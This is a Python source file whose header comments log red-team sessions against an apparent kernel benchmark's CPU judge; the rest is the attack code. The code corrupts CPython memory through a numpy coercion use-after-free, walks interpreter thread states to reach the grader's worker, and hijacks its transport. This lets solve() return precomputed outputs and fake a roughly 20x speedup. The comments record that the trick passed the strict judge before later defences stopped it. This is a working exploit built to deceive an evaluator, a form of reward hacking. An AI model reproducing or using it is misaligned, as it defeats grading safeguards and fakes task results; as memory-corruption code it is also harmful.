# Tenth session's third red team (2026-12-07, CPU judge): passed strict at 19.1-20.1x at fcb659e.
# Raw memory with neither a dunder nor a library base class of the kernel's: a plain
# weakref.WeakValueDictionary, a sequence to numpy (its __getitem__ and __len__ are the standard
# library's Python), whose _pending_removals is a kernel object with a method named pop: numpy's
# coercion ran __len__, _commit_removals, then pop, holding the list's items borrowed. Then the
# Worker found through the interpreter's thread states (_PyRuntime at a fixed offset from None in
# libpython 3.11.7: elsewhere the set-up raises, and the case reads exception) and its transport's
# _mapped replaced by an object whose get, a property of C callables, ran the answer on the
# worker's main thread while it opened each call's inputs. Stopped at run time: the worker checks
# its own objects before opening a call's inputs (worker._StateSnapshot: runtime.clock_tampered).
# Eleventh session: numpy's coercion walks a tuple of the list's items (worker._hold_sequence_items:
# every loaded object's PySequence_Fast), so the emptied list frees nothing numpy reads and the
# set-up finds no raw memory (it raises; strict or permissive, the verdict is the exception).
import functools
import itertools
import operator
import weakref
import numpy as np
import torch

_st = {}
_N = 20


class _C:
    def pop(self):
        if self is _st.get('c'):
            if _st.get('armed'):
                _st['armed'] = False
                _st['L'].clear()
                _st['ptrs'] = bytearray(_st['ptrbytes'])
            raise IndexError
        if _st.get('got') is None:
            t = _st['fake']
            hdr = ((1 << 40).to_bytes(8, 'little') + id(bytearray).to_bytes(8, 'little')
                   + bytes(8) + (1).to_bytes(8, 'little') + bytes(24))
            t[320:320 + len(hdr)] = torch.tensor(list(hdr), dtype=torch.uint8)
            _st['got'] = self
        raise IndexError


def _u8(b):
    return torch.tensor(list(b), dtype=torch.uint8)


def _rawmem():
    fake = torch.zeros(1024, dtype=torch.uint8)
    _st['fake'] = fake
    p = fake.data_ptr()
    F = p + 64     # fake WeakValueDictionary, preheader at p+32
    Y = p + 320    # fake _C, preheader at p+288 (zeros)
    V = p + 512    # values array, all Y
    fake[32:40] = _u8(V.to_bytes(8, 'little'))
    fake[64:80] = _u8((1 << 40).to_bytes(8, 'little') + id(weakref.WeakValueDictionary).to_bytes(8, 'little'))
    fake[320:336] = _u8((1 << 40).to_bytes(8, 'little') + id(_C).to_bytes(8, 'little'))
    fake[512:512 + 8 * 48] = _u8(Y.to_bytes(8, 'little') * 48)
    _st['ptrbytes'] = (F.to_bytes(8, 'little') * _N)[:_N * 8 - 1]
    c = _C()
    _st['c'] = c
    w = weakref.WeakValueDictionary()
    w._pending_removals = c
    _st['w'] = w
    _st['L'] = [w] + [object() for _ in range(_N - 1)]
    _st['armed'] = True
    try:
        np.array(_st['L'], dtype=object)
    except Exception as e:
        _st['exc'] = repr(e)
    m = _st.get('got')
    if type(m) is not bytearray:
        raise RuntimeError("no raw memory " + str(_st.get('exc')))
    fake[336:352] = _u8((1 << 60).to_bytes(8, 'little') + ((1 << 60) + 1).to_bytes(8, 'little'))
    return m



_RT_OFF = 993632  # &_PyRuntime - &_Py_NoneStruct in libpython3.11.so.1.0 (3.11.7)


def _word(mem, a):
    return int.from_bytes(mem[a:a + 8], 'little')


def _pystr(mem, s):
    if not s or (mem[s + 32] & 0x60) != 0x60:
        return ''
    n = _word(mem, s + 16)
    if n > 200:
        return ''
    return bytes(mem[s + 48:s + 48 + n]).decode('ascii', 'replace')


def _find_worker(mem):
    rt = id(None) + _RT_OFF
    interp = _word(mem, rt + 40)
    if not interp or interp != _word(mem, rt + 48):
        raise RuntimeError("runtime not found")
    t = _word(mem, interp + 16)
    n = 0
    while t and n < 64:
        if _word(mem, t + 16) != interp:
            raise RuntimeError("bad tstate")
        cf = _word(mem, t + 56)
        fr = _word(mem, cf + 8) if cf else 0
        d = 0
        while fr and d < 300:
            code = _word(mem, fr + 32)
            if _pystr(mem, _word(mem, code + 128)) in ('Worker._call', 'Worker._kernel_call', 'Worker._on_kernel_thread'):
                return _word(mem, fr + 72)
            fr = _word(mem, fr + 48)
            d += 1
        t = _word(mem, t + 8)
        n += 1
    raise RuntimeError("worker frame not found")


def _ref(mem, addr):
    holder = [None]
    items = _word(mem, id(holder) + 24)
    rc = _word(mem, addr)
    mem[addr:addr + 8] = (rc + 1).to_bytes(8, 'little')
    mem[items:items + 8] = addr.to_bytes(8, 'little')
    return holder[0]


class _G:
    pass


def _ops(x, r, w, out, flag):
    s = torch.empty(x.shape, dtype=torch.float32)
    m = torch.empty((x.shape[0], 1), dtype=torch.float32)
    eps = torch.full((1, 1), 1e-5, dtype=torch.float32)
    return [
        functools.partial(s.copy_, x),
        functools.partial(s.add_, r),
        functools.partial(torch.linalg.vector_norm, s, 2, -1, True, out=m),
        functools.partial(torch.addcmul, eps, m, m, value=1.0 / x.shape[-1], out=m),
        functools.partial(m.rsqrt_),
        functools.partial(s.mul_, m),
        functools.partial(torch.mul, s, w, out=out),
        functools.partial(flag.fill_, 1),
    ]


def _honest(x, residual, weight):
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)


def solve(x, residual, weight):
    k = _st.get('keep')
    tr = _st.get('tr')
    if (k is not None and tr._mapped is _st['G'] and _st['flag'].item() == 1
            and k[0].data_ptr() == x.data_ptr() and k[1].data_ptr() == residual.data_ptr()
            and k[2].data_ptr() == weight.data_ptr() and k[0].shape == x.shape
            and k[1].shape == residual.shape and k[2].shape == weight.shape):
        _st['flag'].zero_()
        return _st['nxt']
    result = _honest(x, residual, weight)
    if tr is None:
        mem = _rawmem()
        wk = _ref(mem, _find_worker(mem))
        tr = wk.transport
        _st['tr'] = tr
    cur = tr._mapped
    real = _st['real'] if cur is _st.get('G') else cur
    _st['real'] = real
    rget = real.get
    nxt = torch.empty_like(x)
    flag = torch.zeros((), dtype=torch.int32)
    ops = _ops(x.view(x.shape), residual.view(residual.shape), weight.view(weight.shape), nxt, flag)
    ops.append(functools.partial(next, itertools.repeat(rget)))
    it = filter(functools.partial(operator.is_, rget), map(operator.call, itertools.cycle(ops)))
    _G.get = property(functools.partial(next, it))
    g = _G()
    _st['nxt'] = nxt
    _st['flag'] = flag
    _st['keep'] = (x, residual, weight)
    _st['ops'] = (ops, it, rget)
    _st['G'] = g
    tr._mapped = g
    return result
